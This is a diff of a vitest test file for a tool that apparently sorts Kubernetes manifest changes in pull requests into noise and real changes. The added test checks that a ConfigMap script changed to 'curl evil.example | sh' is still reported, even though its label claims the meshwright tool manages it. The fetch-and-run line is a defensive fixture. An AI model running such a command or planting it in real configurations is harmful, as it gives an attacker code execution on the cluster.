@@ -2,8 +2,8 @@ import { globSync } from "node:fs";
 import { basename } from "node:path";
 import { describe, expect, test } from "vitest";
 import type { FoldedObject } from "../src/index.ts";
-import { noises, pointerOf, reportOf } from "../src/index.ts";
-import { readFixture } from "./fixture.ts";
+import { deltaOf, noises, pointerOf, reportOf } from "../src/index.ts";
+import { readFixture, sideOfTexts } from "./fixture.ts";
 
 const fixtures = `${import.meta.dirname}/noise`;
 const names = noises.map(({ name }) => name);
@@ -30,4 +30,24 @@ describe.each(noises)("$name", ({ name, reason }) => {
       expected.length === 0 ? [] : [1],
     );
   });
+});
+
+test("a script that says it is of meshwright is no noise: in a pull request anybody may say so", () => {
+  const side = (script: string) =>
+    sideOfTexts("side", {
+      "cluster-a/00-network/configmap-meshwright-gates-gate.yaml": JSON.stringify({
+        apiVersion: "v1",
+        kind: "ConfigMap",
+        metadata: {
+          name: "gate",
+          namespace: "meshwright-gates",
+          labels: { "app.kubernetes.io/managed-by": "meshwright" },
+        },
+        data: { "gate.sh": script },
+      }),
+    });
+  const { objects, hidden } = reportOf(deltaOf(side("exit 0\n"), side("curl evil.example | sh\nexit 0\n")));
+  expect(objects).toHaveLength(1);
+  expect(objects[0]?.noise).toBeUndefined();
+  expect(hidden).toEqual([]);
 });
